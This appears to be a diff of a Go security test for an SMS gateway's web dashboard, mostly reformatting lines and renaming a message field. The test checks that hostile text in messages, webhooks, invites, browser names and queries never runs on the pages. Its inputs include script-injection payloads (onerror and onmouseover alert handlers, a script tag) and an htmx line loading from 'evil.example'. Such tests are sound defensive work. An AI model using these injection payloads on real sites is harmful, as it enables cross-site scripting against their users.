@@ -38,7 +38,10 @@ type hostile struct {
 // T13: whatever somebody else writes is read on the pages, and does nothing there.
 func TestT13HostileTextNeverRuns(t *testing.T) {
 	t.Parallel()
-	h := &hostile{t: t, k: testkit.Start(t), strings: hostileStrings(), wants: map[string][]string{}, reads: map[string]*strings.Builder{}}
+	h := &hostile{
+		t: t, k: testkit.Start(t), strings: hostileStrings(), wants: map[string][]string{},
+		reads: map[string]*strings.Builder{},
+	}
 	if unique := slices.Compact(slices.Sorted(slices.Values(h.strings))); len(unique) != 200 {
 		t.Fatalf("there are %d different strings, want 200", len(unique))
 	}
@@ -75,7 +78,11 @@ func TestT13HostileTextNeverRuns(t *testing.T) {
 	for _, path := range answers {
 		h.read("delivery", path)
 	}
-	for _, path := range []string{"/", "/usage", "/account", "/devices/" + string(number.ID), "/devices/" + string(number.ID) + "/phone", "/devices/" + devices[0] + "/health", "/devices/" + devices[0] + "/delete", "/messages/new", "/webhooks/" + hooks[0] + "/secret", "/webhooks/" + hooks[0] + "/replay", "/webhooks/" + hooks[0] + "/deliveries"} {
+	for _, path := range []string{
+		"/", "/usage", "/account", "/devices/" + string(number.ID), "/devices/" + string(number.ID) + "/phone",
+		"/devices/" + devices[0] + "/health", "/devices/" + devices[0] + "/delete", "/messages/new",
+		"/webhooks/" + hooks[0] + "/secret", "/webhooks/" + hooks[0] + "/replay", "/webhooks/" + hooks[0] + "/deliveries",
+	} {
 		h.read("other", path)
 	}
 	h.eachMessage()
@@ -135,7 +142,9 @@ func (h *hostile) contactsWrite(device postern.DeviceID) {
 			sent++
 		}
 	}
-	if _, err := h.k.Vendor.Send(h.t.Context(), own, "+15558888888", strings.Repeat("<i>", 1<<20/3)); err != nil { // the network knows no limit of ours
+	if _, err := h.k.Vendor.Send(
+		h.t.Context(), own, "+15558888888", strings.Repeat("<i>", 1<<20/3),
+	); err != nil { // the network knows no limit of ours
 		h.t.Fatal(err)
 	}
 	sent++
@@ -145,9 +154,10 @@ func (h *hostile) contactsWrite(device postern.DeviceID) {
 		return len(list) == sent, len(list)
 	})
 	for _, m := range list {
-		if clean := !strings.ContainsFunc(m.Body, func(r rune) bool { return !unicode.IsPrint(r) || r > 0xffff }); clean && len(m.Body) < 200 {
-			h.want("chats", m.Body) // as the name and as the text
-			h.want("events", inJSON(m.Body))
+		if clean := !strings.ContainsFunc(m.Content.Text, func(r rune) bool { return !unicode.IsPrint(r) || r > 0xffff }); clean &&
+			len(m.Content.Text) < 200 {
+			h.want("chats", m.Content.Text) // as the name and as the text
+			h.want("events", inJSON(m.Content.Text))
 		}
 	}
 	h.enough("inbound texts", sent)
@@ -194,19 +204,20 @@ func (h *hostile) write(device postern.DeviceID) {
 		if len(label) > 500 {
 			label = label[:400]
 		}
-		body := `{"deviceId":"` + string(device) + `","to":"` + crowd + `","whenDisconnected":"queue","body":%s,"metadata":{` + quoted(label) + `:` + quoted(label) + `}}`
+		body := `{"deviceId":"` + string(device) + `","to":"` + crowd +
+			`","whenDisconnected":"queue","body":%s,"metadata":{` + quoted(label) + `:` + quoted(label) + `}}`
 		if !h.put("/v1/messages", body, s, &m) {
 			continue
 		}
 		taken++
-		if m.Body != s {
-			h.t.Errorf("%.60q is kept as %.60q", s, m.Body)
+		if m.Content.Text != s {
+			h.t.Errorf("%.60q is kept as %.60q", s, m.Content.Text)
 		}
-		if len([]rune(m.Body)) < 2000 {
-			h.want("chat", m.Body)
+		if len([]rune(m.Content.Text)) < 2000 {
+			h.want("chat", m.Content.Text)
 		}
-		if len([]rune(m.Body)) < 200 {
-			h.want("messages", m.Body)
+		if len([]rune(m.Content.Text)) < 200 {
+			h.want("messages", m.Content.Text)
 		}
 	}
 	h.enough("outbound texts", taken)
@@ -249,7 +260,9 @@ func (h *hostile) nameWorkspaces() {
 		if err != nil {
 			continue
 		}
-		_, token, err := p.Invitations.Create(ctx, access.Operator(), ws.ID, people.NewInvitation{Email: email, Role: postern.Owner})
+		_, token, err := p.Invitations.Create(ctx, access.Operator(), ws.ID, people.NewInvitation{
+			Email: email, Role: postern.Owner,
+		})
 		if err != nil {
 			h.t.Fatal(err)
 		}
@@ -271,7 +284,9 @@ func (h *hostile) addWebhooks() (ids []string) {
 	for _, s := range h.strings[:len(h.strings)-2] { // two are for what follows
 		var e gateway.EndpointWithSecret
 		raw := quoted(r.URL + "/" + s)
-		if a := h.c.Do(http.MethodPost, "/v1/webhooks", `{"url":`+raw+`,"description":`+quoted(s)+`,"events":["device.banned"]}`); a.Status == http.StatusCreated {
+		if a := h.c.Do(
+			http.MethodPost, "/v1/webhooks", `{"url":`+raw+`,"description":`+quoted(s)+`,"events":["device.banned"]}`,
+		); a.Status == http.StatusCreated {
 			a.JSON(h.k, &e)
 			addresses++
 		} else if !h.put("/v1/webhooks", `{"url":"`+r.URL+`/?q=`+url.QueryEscape(s[:min(len(s), 300)])+`","description":%s,"events":["device.banned"]}`, s, &e) {
@@ -304,7 +319,10 @@ func (h *hostile) answerWebhooks() (paths []string) {
 	}))
 	h.t.Cleanup(server.Close)
 	var e gateway.EndpointWithSecret
-	h.c.Call(http.MethodPost, "/v1/webhooks", map[string]any{"url": server.URL, "events": []string{"device.banned"}}, http.StatusCreated, &e)
+	h.c.Call(
+		http.MethodPost, "/v1/webhooks", map[string]any{"url": server.URL, "events": []string{"device.banned"}},
+		http.StatusCreated, &e,
+	)
 	testkit.Eventually(h.t, "an active endpoint", func() (bool, any) {
 		h.c.Call(http.MethodGet, "/v1/webhooks/"+string(e.ID), nil, http.StatusOK, &e)
 		return e.Status == postern.EndpointActive, e.Status
@@ -339,7 +357,9 @@ func (h *hostile) invite() {
 	h.t.Helper()
 	for _, s := range h.strings {
 		for _, address := range []string{s + "@example.com", `"` + s + `"@example.com`} {
-			i, _, err := h.k.People().Invitations.Create(h.t.Context(), access.Operator(), h.c.Workspace, people.NewInvitation{Email: address, Role: postern.Viewer})
+			i, _, err := h.k.People().Invitations.Create(h.t.Context(), access.Operator(), h.c.Workspace, people.NewInvitation{
+				Email: address, Role: postern.Viewer,
+			})
 			if err == nil {
 				h.want("people", i.Email)
 			}
@@ -351,9 +371,14 @@ func (h *hostile) invite() {
 // signInFromElsewhere lets browsers with hostile names be listed as signed in.
 func (h *hostile) signInFromElsewhere() {
 	h.t.Helper()
-	for _, agent := range []string{`<script>alert(1)</script> Firefox/1 Windows`, `" onmouseover="alert(1)`, `Mozilla/5.0 (<img src=x onerror=alert(1)>; Linux) Chrome/1`} {
+	for _, agent := range []string{
+		`<script>alert(1)</script> Firefox/1 Windows`, `" onmouseover="alert(1)`,
+		`Mozilla/5.0 (<img src=x onerror=alert(1)>; Linux) Chrome/1`,
+	} {
 		form := url.Values{"email": {email}, "password": {password}}
-		r, err := http.NewRequestWithContext(h.t.Context(), http.MethodPost, h.k.URL()+"/signin", strings.NewReader(form.Encode()))
+		r, err := http.NewRequestWithContext(
+			h.t.Context(), http.MethodPost, h.k.URL()+"/signin", strings.NewReader(form.Encode()),
+		)
 		if err != nil {
 			h.t.Fatal(err)
 		}
@@ -391,7 +416,10 @@ func (h *hostile) walk(kind, path string, most int) {
 	h.t.Helper()
 	for range most {
 		h.read(kind, path)
-		next, err := chromedp.Run(h.b.ctx, chromedp.Evaluate[string](`[...document.querySelectorAll('main a[href*="after="], a.btn[href*="after="]')].map(a => a.getAttribute("href")).pop() || ""`))
+		next, err := chromedp.Run(
+			h.b.ctx,
+			chromedp.Evaluate[string](`[...document.querySelectorAll('main a[href*="after="], a.btn[href*="after="]')].map(a => a.getAttribute("href")).pop() || ""`),
+		)
 		if h.b.must(err); next == "" {
 			return
 		}
@@ -405,11 +433,11 @@ func (h *hostile) eachMessage() {
 	h.t.Helper()
 	list := h.messages("")
 	for i, m := range list {
-		if i%7 != 0 && len(m.Body) < 200 {
+		if i%7 != 0 && len(m.Content.Text) < 200 {
 			continue
 		}
 		h.read("message", "/messages/"+string(m.ID))
-		h.want("message", m.Body)
+		h.want("message", m.Content.Text)
 		for name, value := range m.Metadata {
 			h.want("message", name)
 			h.want("message", value)
@@ -423,7 +451,10 @@ func (h *hostile) asQuery() {
 	short := slices.DeleteFunc(slices.Clone(h.strings), func(s string) bool { return len(s) > 300 })
 	for some := range slices.Chunk(short, 40) {
 		q := url.QueryEscape(strings.Join(some, " "))
-		for _, path := range []string{"/messages?q=", "/messages?status=", "/events?type=", "/events?device=", "/people/audit?email=", "/messages/chats?device=", "/devices?after=", "/nowhere?x="} {
+		for _, path := range []string{
+			"/messages?q=", "/messages?status=", "/events?type=", "/events?device=", "/people/audit?email=",
+			"/messages/chats?device=", "/devices?after=", "/nowhere?x=",
+		} {
 			h.read("query", path+q)
 		}
 	}
@@ -433,7 +464,10 @@ func (h *hostile) asQuery() {
 func (h *hostile) whileThePageIsOpen(device postern.DeviceID) {
 	h.t.Helper()
 	const from = "+15551234567" // of inbound
-	for i, path := range []string{"/messages/chats?device=" + string(device), "/messages/chats/" + string(device) + "/" + url.PathEscape(from), "/events"} {
+	for i, path := range []string{
+		"/messages/chats?device=" + string(device), "/messages/chats/" + string(device) + "/" + url.PathEscape(from),
+		"/events",
+	} {
 		h.b.visit(path)
 		text := fmt.Sprintf(`<img src=x onerror=alert(%d)><div hx-get=//evil.example hx-trigger=load>live %d`, i, i)
 		inbound(h.c, device, text)
@@ -447,7 +481,9 @@ func (h *hostile) whileThePageIsOpen(device postern.DeviceID) {
 // export reads the file of all messages.
 func (h *hostile) export() {
 	h.t.Helper()
-	text, err := chromedp.Run(h.b.ctx, chromedp.Evaluate[string](`fetch("/messages.csv").then(r => r.text())`, chromedp.EvalAwaitPromise))
+	text, err := chromedp.Run(
+		h.b.ctx, chromedp.Evaluate[string](`fetch("/messages.csv").then(r => r.text())`, chromedp.EvalAwaitPromise),
+	)
 	h.b.must(err)
 	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 	h.b.must(err)
@@ -461,8 +497,8 @@ func (h *hostile) export() {
 		}
 	}
 	for _, m := range h.messages("") {
-		if !held[inFile(m.Body)] {
-			h.t.Errorf("the file lacks %.80q", m.Body)
+		if !held[inFile(m.Content.Text)] {
+			h.t.Errorf("the file lacks %.80q", m.Content.Text)
 		}
 	}
 }
@@ -498,7 +534,8 @@ func (h *hostile) judgeLog() {
 	h.t.Helper()
 	for line := range strings.Lines(h.k.Log.String()) {
 		line = strings.TrimSuffix(line, "\n")
-		if !json.Valid([]byte(line)) || strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }) {
+		if !json.Valid([]byte(line)) ||
+			strings.ContainsFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }) {
 			h.t.Errorf("the log holds the line %.200q", line)
 		}
 	}
